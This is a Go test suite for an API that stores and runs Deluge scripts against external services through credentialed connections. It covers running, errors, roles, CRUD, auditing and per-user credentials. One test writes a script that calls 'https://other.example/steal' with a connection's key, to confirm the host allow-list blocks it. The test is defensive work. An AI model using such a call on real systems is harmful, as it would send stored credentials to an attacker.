package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// functionBody is a function as the API returns it.
type functionBody struct {
	ID          string   `json:"id"`
	Name        string   `json:"name"`
	Language    string   `json:"language"`
	Script      string   `json:"script"`
	Connections []string `json:"connections"`
	CreatedBy   string   `json:"created_by"`
}

// runBody is the response of POST /v1/functions/{name}/run.
type runBody struct {
	Result     json.RawMessage `json:"result"`
	Log        []string        `json:"log"`
	DurationMS *int64          `json:"duration_ms"`
}

// runProblem is a function_failed problem with its members.
type runProblem struct {
	problemBody
	Line       int      `json:"line"`
	Column     int      `json:"column"`
	Log        []string `json:"log"`
	CallError  string   `json:"call_error"`
	ConnectURL string   `json:"connect_url"`
}

// delugeSample is the Deluge sample a connection page shows, with the
// service's URL and the connection's link name filled in.
func delugeSample(url, link string) string {
	return fmt.Sprintf(`// Acme Devices through the connection %q
response = invokeurl
[
	url: %q
	type: GET
	connection: %q
];
info response;
`, link, url, link)
}

func TestFunctionRunsConnectionSample(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	link := keyConnection(t, s, up, "header")
	s.addSecret(testAPIKey)

	script := delugeSample(up.server.URL+"/base/v1/devices", link)
	created := decode[functionBody](t, s.admin("POST", "/v1/functions", map[string]any{
		"name": "list_devices", "language": "deluge", "script": script,
	}))
	if created.Name != "list_devices" || created.Language != "deluge" || created.Script != script {
		t.Errorf("created = %+v, want the name, language and script sent", created)
	}
	if len(created.Connections) != 1 || created.Connections[0] != link {
		t.Errorf("connections = %q, want [%s]", created.Connections, link)
	}
	if created.CreatedBy != "admin" {
		t.Errorf("created_by = %q, want admin", created.CreatedBy)
	}

	resp := s.admin("POST", "/v1/functions/list_devices/run", map[string]any{"arguments": map[string]any{}})
	wantStatus(t, resp, http.StatusOK)
	run := decode[runBody](t, resp)
	if want := []string{`{"ok":true}`}; strings.Join(run.Log, "\n") != want[0] {
		t.Errorf("log = %q, want the upstream's response %q", run.Log, want)
	}
	if string(run.Result) != "null" {
		t.Errorf("result = %s, want null for a script without return", run.Result)
	}
	if run.DurationMS == nil {
		t.Error("duration_ms is missing")
	}

	req := up.only(t)
	if req.Method != "GET" || req.Path != "/base/v1/devices" {
		t.Errorf("upstream got %s %s, want GET /base/v1/devices", req.Method, req.Path)
	}
	if got := req.Header.Get("X-API-Key"); got != testAPIKey {
		t.Errorf("X-API-Key = %q, want the connection's key", got)
	}
	wantNoCallerSecrets(t, req)
}

func TestFunctionRunArgumentsAndResult(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	link := keyConnection(t, s, up, "header")
	s.addSecret(testAPIKey)

	script := fmt.Sprintf(`params = Map();
params.put("device", device);
response = invokeurl
[
	url: "/items"
	type: POST
	parameters: params
	headers: {"X-Trace": "t-" + count}
	content-type: "application/json"
	connection: %q
	detailed: true
];
info response.get("responseCode");
return {"ok": response.get("responseText").get("ok"), "double": count * 2};`, link)
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "post_item", "script": script}), http.StatusCreated)

	resp := s.admin("POST", "/v1/functions/post_item/run", map[string]any{"arguments": map[string]any{"device": "pump-7", "count": 21}})
	wantStatus(t, resp, http.StatusOK)
	run := decode[runBody](t, resp)
	if string(run.Result) != `{"ok":true,"double":42}` {
		t.Errorf("result = %s, want {\"ok\":true,\"double\":42}", run.Result)
	}
	if strings.Join(run.Log, ",") != "200" {
		t.Errorf("log = %q, want [200]", run.Log)
	}
	req := up.only(t)
	if req.Method != "POST" || req.Path != "/base/items" {
		t.Errorf("upstream got %s %s, want POST /base/items", req.Method, req.Path)
	}
	if string(req.Body) != `{"device":"pump-7"}` {
		t.Errorf("upstream body = %s, want the parameters as JSON", req.Body)
	}
	if got := req.Header.Get("Content-Type"); got != "application/json" {
		t.Errorf("Content-Type = %q, want application/json", got)
	}
	if got := req.Header.Get("X-Trace"); got != "t-21" {
		t.Errorf("X-Trace = %q, want t-21", got)
	}
}

func TestFunctionScriptInvalid(t *testing.T) {
	s := newStack(t)
	resp := s.admin("POST", "/v1/functions", map[string]any{"name": "broken", "script": "a = 1\nb = 2;"})
	p := wantProblem(t, resp, http.StatusUnprocessableEntity, "script_invalid")
	body := decode[runProblem](t, resp)
	if body.Line != 2 || body.Column != 1 {
		t.Errorf("line, column = %d, %d, want 2, 1", body.Line, body.Column)
	}
	if !strings.Contains(p.Detail, `expected ";" after assignment`) {
		t.Errorf("detail = %q, want the syntax error", p.Detail)
	}

	tests := []struct {
		name string
		body map[string]any
		code string
	}{
		{"bad name", map[string]any{"name": "Bad-Name", "script": "info 1;"}, "invalid_function"},
		{"missing name", map[string]any{"script": "info 1;"}, "invalid_function"},
		{"empty script", map[string]any{"name": "empty", "script": "  "}, "invalid_function"},
		{"other language", map[string]any{"name": "js", "language": "javascript", "script": "info 1;"}, "invalid_function"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			wantProblem(t, s.admin("POST", "/v1/functions", tt.body), http.StatusUnprocessableEntity, tt.code)
		})
	}
}

func TestFunctionRuntimeError(t *testing.T) {
	s := newStack(t)
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{
		"name": "fails", "script": "info \"start\";\nx = {\"a\": 1};\ny = x.get(\"a\") / 0;",
	}), http.StatusCreated)
	resp := s.admin("POST", "/v1/functions/fails/run", nil)
	wantProblem(t, resp, http.StatusUnprocessableEntity, "function_failed")
	body := decode[runProblem](t, resp)
	if body.Line != 3 || body.Column != 16 {
		t.Errorf("line, column = %d, %d, want 3, 16", body.Line, body.Column)
	}
	if strings.Join(body.Log, ",") != "start" {
		t.Errorf("log = %q, want the lines before the failure", body.Log)
	}

	wantProblem(t, s.admin("POST", "/v1/functions/fails/run", map[string]any{"arguments": map[string]any{"not-a-name": 1}}),
		http.StatusUnprocessableEntity, "invalid_arguments")
	wantProblem(t, s.admin("POST", "/v1/functions/missing/run", nil), http.StatusNotFound, "function_not_found")
}

// TestFunctionSharedConnection checks that a run uses the runner's own
// credential of a shared connection, and fails with authorization_required
// naming the connection when the runner has none.
func TestFunctionSharedConnection(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	s.createService(apiKeyService("acme_keys", up.server.URL+"/base", "X-API-Key", "header"))
	conn := s.createConnection(adminToken, map[string]any{
		"name": "Acme shared", "service": "acme_keys", "use_login_user_credentials": true,
	})
	s.connectWithSecrets(conn.LinkName, map[string]string{"X-API-Key": testAPIKey})
	s.addSecret(testAPIKey)
	bobToken := s.addUser("bob", "developer")

	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{
		"name": "shared_call", "script": delugeSample(up.server.URL+"/base/devices", conn.LinkName),
	}), http.StatusCreated)

	resp := s.do("POST", "/v1/functions/shared_call/run", bobToken, nil)
	wantProblem(t, resp, http.StatusUnprocessableEntity, "function_failed")
	body := decode[runProblem](t, resp)
	if body.CallError != "authorization_required" {
		t.Errorf("call_error = %q, want authorization_required", body.CallError)
	}
	if !strings.Contains(body.Detail, fmt.Sprintf("%q", conn.LinkName)) {
		t.Errorf("detail = %q, want the connection's name", body.Detail)
	}
	if !strings.HasSuffix(body.ConnectURL, "/v1/connections/"+conn.LinkName+"/connect") {
		t.Errorf("connect_url = %q, want the connection's connect URL", body.ConnectURL)
	}
	if body.Line != 2 || body.Column != 12 {
		t.Errorf("line, column = %d, %d, want the invokeurl task at 2, 12", body.Line, body.Column)
	}
	if n := len(up.received()); n != 0 {
		t.Fatalf("upstream received %d requests, want none without bob's credential", n)
	}

	const bobKey = "key-bob-3c9d41e7"
	s.addSecret(bobKey)
	wantStatus(t, s.do("POST", "/v1/connections/"+conn.LinkName+"/connect", bobToken,
		map[string]any{"credentials": map[string]string{"X-API-Key": bobKey}}), http.StatusOK)
	wantStatus(t, s.do("POST", "/v1/functions/shared_call/run", bobToken, nil), http.StatusOK)
	if got := up.only(t).Header.Get("X-API-Key"); got != bobKey {
		t.Errorf("X-API-Key = %q, want bob's own key", got)
	}
}

func TestFunctionRoles(t *testing.T) {
	s := newStack(t)
	viewerToken := s.addUser("vera", "viewer")
	devToken := s.addUser("dave", "developer")
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "admins_fn", "script": "return 1;"}), http.StatusCreated)

	wantProblem(t, s.do("POST", "/v1/functions/admins_fn/run", viewerToken, nil), http.StatusForbidden, "forbidden")
	wantProblem(t, s.do("POST", "/v1/functions", viewerToken, map[string]any{"name": "v", "script": "info 1;"}),
		http.StatusForbidden, "forbidden")
	seen := decode[functionBody](t, s.do("GET", "/v1/functions/admins_fn", viewerToken, nil))
	if seen.Script != "[hidden]" {
		t.Errorf("script seen by a viewer = %q, want [hidden]", seen.Script)
	}

	// A developer runs anyone's function but changes only their own.
	wantStatus(t, s.do("POST", "/v1/functions/admins_fn/run", devToken, nil), http.StatusOK)
	wantProblem(t, s.do("PATCH", "/v1/functions/admins_fn", devToken, map[string]any{"script": "return 2;"}),
		http.StatusForbidden, "forbidden")
	wantProblem(t, s.do("DELETE", "/v1/functions/admins_fn", devToken, nil), http.StatusForbidden, "forbidden")
	wantStatus(t, s.do("POST", "/v1/functions", devToken, map[string]any{"name": "daves_fn", "script": "return 3;"}), http.StatusCreated)
	wantStatus(t, s.do("PATCH", "/v1/functions/daves_fn", devToken, map[string]any{"script": "return 4;"}), http.StatusOK)
	run := decode[runBody](t, s.do("POST", "/v1/functions/daves_fn/run", devToken, nil))
	if string(run.Result) != "4" {
		t.Errorf("result after the change = %s, want 4", run.Result)
	}
}

func TestFunctionCRUD(t *testing.T) {
	s := newStack(t)
	for _, name := range []string{"gamma", "alpha", "beta"} {
		wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": name, "script": "return \"" + name + "\";"}), http.StatusCreated)
	}
	wantProblem(t, s.admin("POST", "/v1/functions", map[string]any{"name": "alpha", "script": "return 1;"}),
		http.StatusConflict, "function_exists")

	var names []string
	for _, p := range s.listAll(adminToken, "/v1/functions", 2) {
		for _, item := range p.Items {
			name, _ := item["name"].(string)
			names = append(names, name)
		}
	}
	if strings.Join(names, ",") != "alpha,beta,gamma" {
		t.Errorf("listed = %q, want alpha,beta,gamma in pages of 2", names)
	}

	renamed := decode[functionBody](t, s.admin("PATCH", "/v1/functions/beta", map[string]any{"name": "delta"}))
	if renamed.Name != "delta" || renamed.Script != `return "beta";` {
		t.Errorf("renamed = %+v, want delta with the old script", renamed)
	}
	wantProblem(t, s.admin("GET", "/v1/functions/beta", nil), http.StatusNotFound, "function_not_found")
	wantProblem(t, s.admin("PATCH", "/v1/functions/delta", map[string]any{"name": "alpha"}), http.StatusConflict, "function_exists")
	resp := s.admin("PATCH", "/v1/functions/delta", map[string]any{"script": "if (true) {"})
	wantProblem(t, resp, http.StatusUnprocessableEntity, "script_invalid")

	wantStatus(t, s.admin("DELETE", "/v1/functions/delta", nil), http.StatusNoContent)
	wantProblem(t, s.admin("DELETE", "/v1/functions/delta", nil), http.StatusNotFound, "function_not_found")
}

// TestFunctionUsesConnection checks that a function naming a connection
// appears in its used_by, keeps it from being deleted, and is named in
// the update guard's message.
func TestFunctionUsesConnection(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	link := keyConnection(t, s, up, "header")
	s.addSecret(testAPIKey)
	fn := decode[functionBody](t, s.admin("POST", "/v1/functions", map[string]any{
		"name": "uses_keys", "script": delugeSample(up.server.URL+"/base", link),
	}))

	type usage struct {
		Type string `json:"type"`
		ID   string `json:"id"`
		Name string `json:"name"`
	}
	conn := decode[struct {
		UsedBy []usage `json:"used_by"`
	}](t, s.admin("GET", "/v1/connections/"+link, nil))
	if len(conn.UsedBy) != 1 || conn.UsedBy[0].Type != "function" || conn.UsedBy[0].Name != "uses_keys" || conn.UsedBy[0].ID != fn.ID {
		t.Errorf("used_by = %+v, want the function uses_keys", conn.UsedBy)
	}

	p := wantProblem(t, s.admin("DELETE", "/v1/connections/"+link, nil), http.StatusConflict, "connection_in_use")
	if !strings.Contains(p.Detail, `function "uses_keys"`) {
		t.Errorf("detail = %q, want the function named", p.Detail)
	}
	p = wantProblem(t, s.admin("PATCH", "/v1/connections/"+link, map[string]any{"scopes": []string{"read"}}),
		http.StatusConflict, "connection_connected")
	if !strings.Contains(p.Detail, `function "uses_keys" uses it`) {
		t.Errorf("detail = %q, want the function named", p.Detail)
	}

	// A script that no longer names the connection releases it.
	wantStatus(t, s.admin("PATCH", "/v1/functions/uses_keys", map[string]any{"script": "return 1;"}), http.StatusOK)
	wantStatus(t, s.admin("DELETE", "/v1/connections/"+link, nil), http.StatusNoContent)
}

func TestFunctionRunAudited(t *testing.T) {
	s := newStack(t)
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "audited", "script": "return 1;"}), http.StatusCreated)
	wantStatus(t, s.admin("POST", "/v1/functions/audited/run", nil), http.StatusOK)
	entries := decode[page[auditBody]](t, s.admin("GET", "/v1/audit?limit=5", nil))
	var actions []string
	for _, e := range entries.Items {
		actions = append(actions, e.Action)
		if e.Action == "function.run" {
			if e.TargetType != "function" || e.Detail["name"] != "audited" || e.Detail["status"] != "succeeded" {
				t.Errorf("run entry = %+v, want the function and status succeeded", e)
			}
		}
	}
	if len(actions) < 2 || actions[0] != "function.run" || actions[1] != "function.created" {
		t.Errorf("newest audit actions = %q, want function.run then function.created", actions)
	}
}

func TestFunctionHostNotAllowed(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	link := keyConnection(t, s, up, "header")
	s.addSecret(testAPIKey)
	// The allow-list rejects the host before any request is sent.
	script := fmt.Sprintf("info \"before\";\nr = invokeurl [ url: \"https://other.example/steal\" connection: %q ];", link)
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "elsewhere", "script": script}), http.StatusCreated)

	resp := s.admin("POST", "/v1/functions/elsewhere/run", nil)
	wantProblem(t, resp, http.StatusUnprocessableEntity, "function_failed")
	body := decode[runProblem](t, resp)
	if body.CallError != "host_not_allowed" {
		t.Errorf("call_error = %q, want host_not_allowed", body.CallError)
	}
	if body.Line != 2 || body.Column != 5 {
		t.Errorf("line, column = %d, %d, want 2, 5", body.Line, body.Column)
	}
	if strings.Join(body.Log, ",") != "before" {
		t.Errorf("log = %q, want [before]", body.Log)
	}
	if n := len(up.received()); n != 0 {
		t.Errorf("upstream received %d requests, want none", n)
	}
}

// TestFunctionInvokesWithoutConnection checks that an invokeurl task with
// no connection reaches its absolute URL with no credential.
func TestFunctionInvokesWithoutConnection(t *testing.T) {
	s := newStack(t)
	up := newUpstream(t)
	script := fmt.Sprintf("r = invokeurl [ url: %q type: GET ];\ninfo r;", up.server.URL+"/public/status")
	wantStatus(t, s.admin("POST", "/v1/functions", map[string]any{"name": "status", "script": script}), http.StatusCreated)

	resp := s.admin("POST", "/v1/functions/status/run", nil)
	wantStatus(t, resp, http.StatusOK)
	run := decode[runBody](t, resp)
	if strings.Join(run.Log, "\n") != `{"ok":true}` {
		t.Errorf("log = %q, want the upstream's response", run.Log)
	}
	req := up.only(t)
	if req.Method != "GET" || req.Path != "/public/status" {
		t.Errorf("upstream got %s %s, want GET /public/status", req.Method, req.Path)
	}
	if got := req.Header.Get("Authorization"); got != "" {
		t.Errorf("Authorization = %q, want none", got)
	}
}
